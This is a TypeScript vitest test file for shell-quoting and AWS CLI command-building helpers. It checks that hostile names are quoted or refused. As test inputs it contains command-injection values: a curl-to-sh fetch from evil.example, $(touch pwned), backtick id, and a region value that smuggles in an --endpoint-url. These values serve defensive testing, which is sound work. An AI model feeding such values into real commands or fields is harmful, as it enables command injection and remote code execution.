import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { regionArg } from '../../shared/aws/names.js';
import { awsCommand, checked, placeholder, refusedIn, shellQuote } from '../../shared/shell.js';

/** What `sh` makes of a quoted word: the string printf receives as its one argument. */
const shellRoundTrip = (quoted: string) => execFileSync('sh', ['-c', `printf %s ${quoted}`], { timeout: 10_000 }).toString('utf8');

// Characters a shell treats specially, so generated strings hit quoting's edge cases far more often than chance.
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
const SHELL_SPECIAL = [...'\'"`$\\;|&()<>{}[]*?!#~ \t\n=%^-,.:/@'];

describe('shellQuote', () => {
  it("always single-quotes, writes a quote as '\\'' and the empty string as ''", () => {
    expect(shellQuote('example-reports')).toBe("'example-reports'");
    expect(shellQuote("ops' ssh")).toBe("'ops'\\'' ssh'");
    expect(shellQuote('')).toBe("''");
  });

  it('gives the shell back exactly the hostile names of the issue, with nothing run', () => {
    for (const name of ['x;curl${IFS}-s${IFS}evil.example|sh;#', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/$(touch${IFS}pwned)', 'a\'b`id`"$HOME"\\']) {
      expect(shellRoundTrip(shellQuote(name))).toBe(name);
    }
  });

  it('round-trips any string through sh (printf %s prints it back byte for byte)', () => {
    // An argv cannot hold NUL, and a lone surrogate has no UTF-8 form: neither can reach a shell at all.
    const text = fc
      .oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: fc.constantFrom(...SHELL_SPECIAL, 'a', 'Z', '0'), maxLength: 40 }))
      .filter((s) => !s.includes('\0') && !LONE_SURROGATE.test(s));
    fc.assert(
      fc.property(text, (value) => {
        expect(shellRoundTrip(shellQuote(value))).toBe(value);
      }),
      { numRuns: 200 },
    );
  });
});

describe('awsCommand', () => {
  it('writes flags in kebab-case with every value quoted, booleans as --flag / --no-flag, lists as several words', () => {
    const command = awsCommand('cloudtrail', 'update-trail', {
      name: 'example-trail',
      region: 'us-east-1',
      enableLogFileValidation: false,
      isMultiRegionTrail: true,
      skipped: undefined,
    });
    expect(command).toBe("aws cloudtrail update-trail --name 'example-trail' --region 'us-east-1' --no-enable-log-file-validation --is-multi-region-trail");
    expect(awsCommand('ec2', 'start-instances', { instanceIds: ['i-0123456789abcdef0', 'i-0fedcba9876543210'] })).toBe(
      "aws ec2 start-instances --instance-ids 'i-0123456789abcdef0' 'i-0fedcba9876543210'",
    );
    expect(awsCommand('s3api', 'put-public-access-block', { s3BucketName: 'b' })).toBe("aws s3api put-public-access-block --s3-bucket-name 'b'");
  });

  it('prints a placeholder of our code unquoted, and refuses anything that is not one', () => {
    expect(awsCommand('cloudtrail', 'create-trail', { s3BucketName: placeholder('<bucket>') })).toBe('aws cloudtrail create-trail --s3-bucket-name <bucket>');
    expect(awsCommand('ec2', 'create-tags', { tags: placeholder('Key=<key>,Value=<value>') })).toBe('aws ec2 create-tags --tags Key=<key>,Value=<value>');
    for (const text of ['<bucket>;id', '$(id)', '<a b>', 'bucket', '<x>|sh']) expect(() => placeholder(text)).toThrow(/not a command placeholder/);
  });

  it('gives no command, saying why, when an event value is not a valid name for its API', () => {
    const trail = checked('x;curl${IFS}-s${IFS}evil.example|sh;#', 'trail name', (v) => /^[A-Za-z0-9._-]{3,128}$/.test(v));
    expect(awsCommand('cloudtrail', 'get-trail-status', { name: trail, region: regionArg('us-east-1') })).toBe(
      'no command: the trail name in the event is not a valid trail name',
    );
    expect(awsCommand('cloudtrail', 'get-trail-status', { name: checked('example-trail', 'trail name', () => true), region: regionArg('us-east-1') })).toBe(
      "aws cloudtrail get-trail-status --name 'example-trail' --region 'us-east-1'",
    );
  });

  it('accepts only region codes as --region, and says when the event names none', () => {
    expect(refusedIn({ region: regionArg('us-gov-west-1') })).toBeUndefined();
    expect(refusedIn({ region: regionArg('eusc-de-east-1') })).toBeUndefined();
    expect(refusedIn({ region: regionArg("us-east-1';id;'") })).toBe('the region in the event is not a valid region');
    expect(refusedIn({ region: regionArg('us-east-1 --endpoint-url https://evil.example') })).toBe('the region in the event is not a valid region');
    expect(refusedIn({ region: regionArg(null) })).toBe('the event names no region');
  });

  it('refuses service, operation and flag names that are not plain words (they are constants of our code)', () => {
    expect(() => awsCommand('ec2;id', 'describe-instances')).toThrow(/not an aws command/);
    expect(() => awsCommand('ec2', 'describe-instances', { 'x;id': 'a' })).toThrow(/not a command flag/);
    expect(awsCommand('ec2', 'describe-instances')).toBe('aws ec2 describe-instances');
  });
});
